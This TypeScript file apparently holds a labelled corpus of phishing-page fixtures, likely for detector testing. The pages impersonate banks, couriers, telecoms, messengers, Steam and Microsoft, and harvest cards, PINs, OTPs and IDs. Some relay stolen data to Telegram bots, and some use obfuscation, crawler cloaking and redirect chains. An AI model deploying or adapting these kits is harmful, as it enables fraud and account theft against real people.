import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { b64, cardFields, cardJs, countdown, doc, mark, mobileCss, otpBoxes, siteCss, tgRelay } from '../parts/zu-kit.js';
import { jsRoute, jsonRoute, pngRoute } from '../parts/e-bin.js';

export const entries: Entry[] = [
{
  id: 'zu-ptt-gumruk-ucreti',
  label: 'phishing',
  kind: 'parcel-fee-kit',
  url: 'https://pttkargo-gonderi.info/takip/TR4892017',
  body: doc({
    title: 'PTT Kargo - Gönderi Takip',
    lang: 'tr',
    css: mobileCss('#f7c600', '#fafafa') + 'header.top{color:#222}.trk td{padding:6px 0;font-size:14px}',
    body: `<header class="top">${mark('#1b1b1b', 'PTT', '#f7c600')}<span class="brand">PTT Kargo</span></header>
<main class="wrap"><div class="card"><h2>Gönderi No: RR48920171TR</h2>
<table class="trk"><tr><td>Durum</td><td><b style="color:#d93025">Gümrükte bekliyor</b></td></tr><tr><td>Çıkış</td><td>Frankfurt DE</td></tr><tr><td>Son işlem</td><td>İstanbul Uluslararası Dağıtım Merkezi</td></tr></table>
<div class="alert">Gönderinizin teslim edilebilmesi için <b>24,90 TL</b> gümrük ve hizmet bedelinin 48 saat içinde ödenmesi gerekmektedir. Ödenmeyen gönderiler göndericiye iade edilir.</div>
<form method="post" action="/odeme/isle.php"><label>Ad Soyad</label><input name="ad" required><label>Adres</label><input name="adres" required><label>Telefon</label><input name="tel" required>
${cardFields({ num: 'Kart Numarası', exp: 'SKT', cvv: 'CVV' })}<button>24,90 TL Öde</button></form>
<p class="muted">256-bit SSL ile korunmaktadır.</p></div></main>${cardJs}`,
  }),
},
{
  id: 'zu-vodafone-cash-eg-wallet',
  label: 'phishing',
  kind: 'mobile-money-kit',
  url: 'https://vodafone-cash-gift.site/eg/',
  body: doc({
    title: 'فودافون كاش | هدية 500 جنيه',
    lang: 'ar',
    dir: 'rtl',
    css: mobileCss('#e60000') + 'body{font-family:Tahoma,Arial}',
    body: `<header class="top">${mark('#fff', 'V', '#e60000')}<span class="brand">Vodafone Cash</span></header>
<main class="wrap"><div class="card"><h2>مبروك! ربحت 500 جنيه رصيد في محفظتك</h2><p>بمناسبة شهر رمضان، أدخل بيانات محفظة فودافون كاش لإضافة الرصيد فوراً.</p>
<form id="vc" action="#"><label>رقم المحفظة</label><input name="wallet" placeholder="010xxxxxxxx" required><label>الرقم السري للمحفظة (PIN)</label><input name="pin" type="password" maxlength="6" inputmode="numeric" required><label>الرقم القومي</label><input name="nid" maxlength="14"><button>استلم الهدية</button></form></div></main>
${tgRelay({ form: 'vc', token: '7281660093:AAEi2pVwQx9Rk3nHs7LmYt1ZcD0uFb6gJqE', chat: '-4120988731', next: '/eg/done.html', prefix: 'VF CASH' })}`,
  }),
},
{
  id: 'zu-gtbank-bvn-relink-tg',
  label: 'phishing',
  kind: 'bank-kit-telegram',
  url: 'https://gtbank-bvn-update.com.ng.verify-portal.live/',
  body: doc({
    title: 'GTBank | BVN Update',
    lang: 'en',
    css: mobileCss('#dd4f05'),
    body: `<header class="top">${mark('#fff', 'GT', '#dd4f05')}<span class="brand">GTBank</span></header>
<main class="wrap"><div class="card"><h2>BVN Linkage Update</h2>
<p>Dear Customer, your account has been restricted in line with the CBN directive on BVN/NIN linkage. Kindly update your details to avoid permanent suspension of your account and card.</p>
<form id="bv" action="#"><label>Account Number</label><input name="acct" maxlength="10" required><label>BVN</label><input name="bvn" maxlength="11" required><label>Internet Banking Password</label><input name="ibpass" type="password"><label>Card Number</label><input name="card" maxlength="19"><div class="row"><div><label>Expiry</label><input name="exp"></div><div><label>Card PIN</label><input name="pin" type="password" maxlength="4"></div></div><button>Update Now</button></form></div></main>
${tgRelay({ form: 'bv', token: '7455021938:AAHkL9Qp2rZ5tVx8mN3bWc1yFs6eDj0uPgo', chat: '1877402291', next: 'otp.html', prefix: 'GTB LOG', ip: true })}`,
  }),
  routes: {
    'gtbank-bvn-update.com.ng.verify-portal.live/otp.html': htmlRoute(doc({ title: 'GTBank | Token', css: mobileCss('#dd4f05'), body: `<main class="wrap"><div class="card"><h2>Enter the OTP sent to your phone</h2><form id="o" action="#"><input name="otp" maxlength="6" inputmode="numeric"><button>Verify</button></form></div></main>${tgRelay({ form: 'o', token: '7455021938:AAHkL9Qp2rZ5tVx8mN3bWc1yFs6eDj0uPgo', chat: '1877402291', next: 'https://www.gtbank.com/', prefix: 'GTB OTP' })}` })),
  },
},
{
  id: 'zu-olx-pl-odbierz-platnosc',
  label: 'phishing',
  kind: 'marketplace-kit',
  url: 'https://olx-pl.bezpieczna-przesylka.eu/oferta/982214/odbior',
  body: doc({
    title: 'OLX - Odbierz płatność',
    lang: 'pl',
    css: mobileCss('#002f34', '#f2f4f5') + '.item{display:flex;gap:12px;align-items:center}.item img{width:72px;height:72px;border-radius:6px;background:#ddd}',
    body: `<header class="top"><span class="brand">OLX</span><span style="margin-left:auto;font-size:13px">Przesyłka OLX</span></header>
<main class="wrap"><div class="card"><div class="item"><img src="/img/item982214.png" alt=""><div><b>Wózek dziecięcy Cybex Priam</b><br>1 250 zł · Kupujący: Kasia_M</div></div></div>
<div class="card"><h2>Kupujący opłacił zamówienie</h2><p>Środki w wysokości <b>1 250 zł</b> czekają na wypłatę. Aby je otrzymać, podaj dane karty, na którą mamy przelać pieniądze.</p>
<form method="post" action="/oferta/982214/pay.php">${cardFields({ num: 'Numer karty', exp: 'Data ważności', cvv: 'CVC', name: 'Imię i nazwisko' })}<label>Dostępne saldo karty</label><input name="saldo"><button>Odbierz środki</button></form>
<p class="muted">Transakcja chroniona przez OLX Bezpieczne Płatności.</p></div></main>${cardJs}`,
  }),
  routes: { 'olx-pl.bezpieczna-przesylka.eu/img/item982214.png': pngRoute(190, 190, 200) },
},
{
  id: 'zu-inpost-doplata-chain',
  label: 'phishing',
  kind: 'redirect-chain-kit',
  url: 'https://inp.st-pl.click/x7Kq2',
  routes: {
    'inp.st-pl.click/x7Kq2': redirectRoute(302, 'https://trk-router.top/r?c=pl&t=x7Kq2'),
    'trk-router.top/r': redirectRoute(302, 'https://inpost-pl.doplata-paczka.com/paczka/6902147733/'),
    'inpost-pl.doplata-paczka.com/paczka/6902147733/': htmlRoute(doc({
      title: 'InPost - Dopłata do przesyłki',
      lang: 'pl',
      css: mobileCss('#ffcd00', '#f5f5f5') + 'header.top{color:#1d1d1b}.banks{display:grid;grid-template-columns:1fr 1fr;gap:8px}.banks a{border:1px solid #ddd;border-radius:6px;padding:12px;text-align:center;color:#222;text-decoration:none;font-weight:600}',
      body: `<header class="top">${mark('#1d1d1b', 'In', '#ffcd00')}<span class="brand">InPost</span></header>
<main class="wrap"><div class="card"><h2>Paczka nr 690214773390 wstrzymana</h2><p>Paczka nie mieści się w wybranej skrytce. Wymagana dopłata <b>1,99 zł</b> za zmianę gabarytu. Wybierz swój bank:</p>
<div class="banks"><a href="/paczka/6902147733/bank/pko">PKO BP</a><a href="/paczka/6902147733/bank/pekao">Pekao</a><a href="/paczka/6902147733/bank/mbank">mBank</a><a href="/paczka/6902147733/bank/santander">Santander</a><a href="/paczka/6902147733/bank/ing">ING</a><a href="/paczka/6902147733/bank/millennium">Millennium</a></div></div></main>`,
    })),
    'inpost-pl.doplata-paczka.com/paczka/6902147733/bank/pko': htmlRoute(doc({ title: 'iPKO - Logowanie', lang: 'pl', css: mobileCss('#003574'), body: `<header class="top"><span class="brand">PKO Bank Polski</span></header><main class="wrap"><div class="card"><h2>Logowanie do serwisu</h2><form method="post" action="/paczka/6902147733/bank/pko/login.php"><label>Numer klienta lub login</label><input name="login" required><label>Hasło</label><input type="password" name="haslo" required><button>Zaloguj</button></form><p class="muted">Płatność 1,99 zł dla InPost sp. z o.o.</p></div></main>` })),
  },
},
{
  id: 'zu-whatsapp-code-hijack',
  label: 'phishing',
  kind: 'messenger-otp-kit',
  url: 'https://wa-verify-account.help/v/8821',
  body: doc({
    title: 'WhatsApp',
    css: mobileCss('#075e54', '#ece5dd'),
    body: `<header class="top"><span class="brand">WhatsApp</span></header>
<main class="wrap"><div class="card"><h2>Verify your phone number</h2><p>Your WhatsApp account will be deactivated because it is being used on another device. Enter the 6-digit code we sent you by SMS to keep your account.</p>
<form method="post" action="/v/8821/confirm"><label>Phone number</label><input name="phone" placeholder="+254 7xx xxx xxx" required>${otpBoxes(6, 'wa_code')}<label>Two-step verification PIN (if set)</label><input name="pin2" type="password" maxlength="6"><button>Verify</button></form></div></main>`,
  }),
},
{
  id: 'zu-telegram-web-clone-ru',
  label: 'phishing',
  kind: 'messenger-otp-kit',
  url: 'https://web-telegram.org.ru-auth.icu/k/',
  body: doc({
    title: 'Telegram Web',
    lang: 'ru',
    css: mobileCss('#3390ec', '#fff') + '.center{text-align:center}',
    body: `<main class="wrap center"><svg width="120" height="120" viewBox="0 0 120 120"><circle cx="60" cy="60" r="60" fill="#3390ec"/><path d="M27 58l58-23c3-1 5 1 4 5l-10 47c-1 3-3 4-6 2l-16-12-8 8c-1 1-2 1-3 0l1-12 28-25c1-1 0-2-2-1l-35 22-15-5c-3-1-3-4 0-5z" fill="#fff"/></svg>
<h1>Telegram</h1><p>Проверьте код страны и введите свой номер телефона.</p>
<form id="tg" method="post" action="/k/sendCode"><select name="country"><option>Russia +7</option><option>Kazakhstan +7</option><option>Ukraine +380</option></select><input name="phone" placeholder="Номер телефона" style="margin-top:10px"><button>ДАЛЕЕ</button></form>
<p class="muted"><a href="#">Вход по QR-коду</a></p></main>
<script>var f=document.getElementById("tg");f.addEventListener("submit",function(e){e.preventDefault();fetch("/k/sendCode",{method:"POST",body:new FormData(f)}).then(function(r){return r.json()}).then(function(j){location.href="/k/code?h="+j.phone_code_hash})});</script>`,
  }),
  routes: {
    'web-telegram.org.ru-auth.icu/k/sendCode': jsonRoute({ ok: true, phone_code_hash: 'a81c0f2e9b77d41a' }),
    'web-telegram.org.ru-auth.icu/k/code': htmlRoute(doc({ title: 'Telegram Web', lang: 'ru', css: mobileCss('#3390ec', '#fff'), body: `<main class="wrap" style="text-align:center"><h2>Введите код</h2><p>Мы отправили код в приложение Telegram на другом устройстве.</p><form method="post" action="/k/signIn"><input name="code" maxlength="5" inputmode="numeric"><label>Облачный пароль</label><input name="password" type="password"><button>ДАЛЕЕ</button></form></main>` })),
  },
},
{
  id: 'zu-m365-invoice-xor',
  label: 'phishing',
  kind: 'obfuscated-kit',
  url: 'https://docs-share-ae.com/view/INV-2025-0412.html',
  body: (() => {
    const inner = doc({
      title: 'Sign in to your account',
      css: 'body{margin:0;font-family:"Segoe UI",Arial;background:#f2f2f2 url(/view/bg.png)}.b{width:440px;margin:80px auto;background:#fff;padding:44px;box-shadow:0 2px 6px rgba(0,0,0,.2)}h1{font-size:24px;font-weight:600}input{width:100%;border:0;border-bottom:1px solid #666;padding:8px 0;font-size:15px;margin-bottom:18px}button{background:#0067b8;color:#fff;border:0;padding:9px 32px;float:right}',
      body: `<div class="b"><svg width="108" height="24"><rect width="10" height="10" fill="#f25022"/><rect x="11" width="10" height="10" fill="#7fba00"/><rect y="11" width="10" height="10" fill="#00a4ef"/><rect x="11" y="11" width="10" height="10" fill="#ffb900"/><text x="28" y="17" font-size="16" fill="#737373">Microsoft</text></svg><h1>Sign in</h1><p>To view the shared document <b>INV-2025-0412.pdf</b> (Al Noor Trading LLC, Dubai) verify your email account.</p><form id="ms" method="post" action="https://docs-share-ae.com/view/ms.php"><input name="loginfmt" type="email" placeholder="Email, phone, or Skype"><input name="passwd" type="password" placeholder="Password"><button>Sign in</button></form></div>`,
    });
    const key = 'k9';
    const enc = Buffer.from(Array.from(Buffer.from(inner, 'utf8')).map((c, i) => c ^ key.charCodeAt(i % 2))).toString('base64');
    return `<html><head><meta charset="utf-8"><title>Loading document…</title></head><body><script>(function(){var k="${key}",d=atob("${enc}"),o=new Uint8Array(d.length);for(var i=0;i<d.length;i++){o[i]=d.charCodeAt(i)^k.charCodeAt(i%2)}var h=new TextDecoder().decode(o);document.open();document.write(h);document.close();})();</script></body></html>`;
  })(),
  routes: { 'docs-share-ae.com/view/bg.png': pngRoute(220, 226, 235) },
},
{
  id: 'zu-etisalat-esim-suspended',
  label: 'phishing',
  kind: 'sim-swap-kit',
  url: 'https://etisalat-esim-activate.com/ae/',
  body: doc({
    title: 'e& | Activate your eSIM',
    css: mobileCss('#e00800'),
    body: `<header class="top"><span class="brand">e&amp; etisalat</span></header>
<main class="wrap"><div class="card"><h2>Your SIM will be suspended</h2><p>As per TDRA regulations, physical SIM cards not upgraded to eSIM by today will be suspended. Complete the free upgrade below. / يرجى ترقية شريحتك إلى eSIM لتجنب الإيقاف.</p>
<form method="post" action="/ae/kyc.php"><label>Mobile number</label><input name="msisdn" value="+971 5" required><label>Emirates ID number</label><input name="eid" placeholder="784-XXXX-XXXXXXX-X" required><label>Emirates ID expiry</label><input name="eid_exp"><label>UAE PASS / OTP code you receive</label><input name="otp" inputmode="numeric" maxlength="6"><button>Upgrade to eSIM</button></form></div></main>`,
  }),
},
{
  id: 'zu-steam-bitb-ru-skins',
  label: 'phishing',
  kind: 'game-bitb-kit',
  url: 'https://cs2-case-drop.ru.com/',
  body: doc({
    title: 'CS2 CASE DROP — бесплатный кейс',
    lang: 'ru',
    css: 'body{margin:0;background:#0f1118;color:#eee;font-family:Arial}.hero{text-align:center;padding:60px 20px}.hero h1{font-size:40px;color:#f5c518}.go{background:#5ba32b;color:#fff;border:0;padding:16px 40px;font-size:18px;border-radius:4px;cursor:pointer}#pop{display:none;position:fixed;top:60px;left:50%;transform:translateX(-50%);width:560px;background:#171a21;border:1px solid #333;box-shadow:0 10px 40px #000}#pop .t{background:#dee1e6;color:#222;padding:6px 10px;font-size:12px;display:flex;justify-content:space-between}#pop .u{background:#fff;color:#0a0;border:1px solid #ccc;padding:3px 8px;border-radius:10px;margin:4px 10px;font-size:12px}#pop .f{padding:24px}#pop input{width:100%;padding:10px;background:#32353c;border:0;color:#fff;margin:6px 0 12px}#pop button{background:linear-gradient(90deg,#06bfff,#2d73ff);color:#fff;border:0;padding:10px 40px}',
    body: `<div class="hero"><h1>ЗАБЕРИ БЕСПЛАТНЫЙ КЕЙС</h1><p>Турнир PGL Astana 2025 — каждому участнику кейс с ножом. Осталось 312 кейсов.</p><button class="go" onclick="document.getElementById('pop').style.display='block'">Войти через Steam</button></div>
<div id="pop"><div class="t"><span>Steam Community :: Sign In - Google Chrome</span><span>✕</span></div><div class="u">🔒 https://steamcommunity.com/openid/login</div><div class="f"><h3>Sign in</h3><form method="post" action="/api/steam/auth"><label>ACCOUNT NAME</label><input name="username"><label>PASSWORD</label><input name="password" type="password"><label>STEAM GUARD CODE</label><input name="twofactorcode" maxlength="5"><button>Sign in</button></form></div></div>`,
  }),
},
{
  id: 'zu-akbank-cloaked-ua',
  label: 'phishing',
  kind: 'cloaked-kit',
  url: 'https://hizli-kredi-basvur.net/',
  body: `<!DOCTYPE html><html lang="tr"><head><meta charset="utf-8"><title>Hızlı Kredi</title><meta name="viewport" content="width=device-width"></head><body style="font-family:Arial;text-align:center;padding:80px;color:#555"><h2>Site bakımda</h2><p>Kısa süre sonra tekrar hizmetinizdeyiz.</p>
<script>
(function(){
  var ua=navigator.userAgent||"";
  var bot=/bot|crawl|spider|headless|lighthouse|preview|facebookexternalhit|curl|wget/i.test(ua)||navigator.webdriver||!navigator.languages||navigator.languages.length===0;
  var mobile=/Android|iPhone|iPad/i.test(ua);
  var tr=(navigator.language||"").toLowerCase().indexOf("tr")===0||Intl.DateTimeFormat().resolvedOptions().timeZone==="Europe/Istanbul";
  if(!bot&&(mobile||tr)){location.replace("/akb/giris.php?ref="+Date.now().toString(36))}
})();
</script></body></html>`,
  routes: {
    'hizli-kredi-basvur.net/akb/giris.php': htmlRoute(doc({
      title: 'Akbank İnternet Şubesi',
      lang: 'tr',
      css: mobileCss('#dc0005'),
      body: `<header class="top"><span class="brand">Akbank</span></header><main class="wrap"><div class="card"><h2>Ön Onaylı 150.000 TL İhtiyaç Kredisi</h2><p>Size özel %0 faizli kredi teklifini görüntülemek için giriş yapın.</p><form method="post" action="/akb/kaydet.php"><label>T.C. Kimlik No / Müşteri No</label><input name="tc" required><label>Şifre</label><input name="sifre" type="password" maxlength="6" required><label>Cep Telefonu</label><input name="gsm"><button>Giriş</button></form></div></main>`,
    })),
  },
},
{
  id: 'zu-jumia-lure-redirect-kit',
  label: 'phishing',
  kind: 'lure-page',
  url: 'https://jumia-anniversary.blogspot-ng.com/2025/03/claim.html',
  body: doc({
    title: 'Jumia 13th Anniversary — Claim your voucher',
    css: siteCss('#f68b1e') + '.v{font-size:36px;color:#f68b1e;font-weight:800}',
    body: `<div class="bar"><div class="in"><span class="logo">JUMIA</span></div></div><div class="content"><article><h1>Jumia is giving ₦50,000 shopping vouchers to 1,000 customers!</h1><p>To celebrate 13 years in Nigeria, Jumia has partnered with GTBank and Access Bank to reward loyal shoppers. Vouchers can be used on any item including phones and appliances.</p><div class="v">₦50,000</div><p>Only <b>87</b> vouchers remaining. Log in with your Jumia account to claim:</p><p><a class="btn" href="https://my-jumia-rewards.com.ng-login.site/customer/account/login/?return=voucher">Claim My Voucher</a></p><p class="muted">Shared 12,480 times on WhatsApp</p></article></div>`,
  }),
  routes: {
    'my-jumia-rewards.com.ng-login.site/customer/account/login/': htmlRoute(doc({ title: 'Jumia Login', css: mobileCss('#f68b1e'), body: `<header class="top"><span class="brand">JUMIA</span></header><main class="wrap"><div class="card"><h2>Welcome to Jumia</h2><form method="post" action="/customer/account/loginPost/"><label>Email or Mobile Number</label><input name="login[username]"><label>Password</label><input type="password" name="login[password]"><button>Login</button></form></div></main>` })),
  },
},
];
